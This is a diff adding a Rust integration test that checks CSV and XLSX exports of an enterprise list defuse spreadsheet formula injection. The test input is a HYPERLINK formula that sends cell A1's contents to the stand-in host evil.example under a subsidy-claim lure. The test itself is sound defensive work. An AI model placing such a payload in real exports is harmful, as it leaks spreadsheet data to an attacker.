@@ -68,6 +68,31 @@ async fn the_enterprise_list_exports_as_csv_and_xlsx_with_its_filters() {
 }
 
 #[actix_web::test]
+async fn text_that_looks_like_a_formula_reaches_the_spreadsheet_as_text() {
+    let app = TestApp::spawn().await;
+    let (xinan, ..) = app.streets().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")"#;
+    let body = json!({"uscc": uscc(1), "name": formula, "street_id": xinan, "contact_name": "-2+3"});
+    app.enterprise(&body).await;
+
+    let (_, _, csv) = download(&app, "/api/v1/enterprises", "text/csv").await;
+    let mut reader = csv::Reader::from_reader(&csv[3..]);
+    let row = reader.records().next().expect("a row").expect("readable");
+    let cells: Vec<&str> = row.iter().collect();
+    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
+    assert!(cells.contains(&"'-2+3"), "{cells:?}");
+    assert!(cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "{cells:?}");
+
+    // XLSX writes it as a string, the very text: nothing to neutralise there.
+    let (_, _, xlsx) = download(&app, "/api/v1/enterprises?format=xlsx", "application/json").await;
+    let mut book = workbook(xlsx);
+    let sheet = book.worksheet_range("企业名录").expect("the sheet");
+    assert_eq!(sheet.rows().nth(2).expect("the row")[1], Data::String(formula.into()));
+    let formulas = book.worksheet_formula("企业名录").expect("formulas");
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
+}
+
+#[actix_web::test]
 async fn reports_export_one_sheet_per_table() {
     let app = TestApp::spawn().await;
     let (xinan, ..) = app.streets().await;
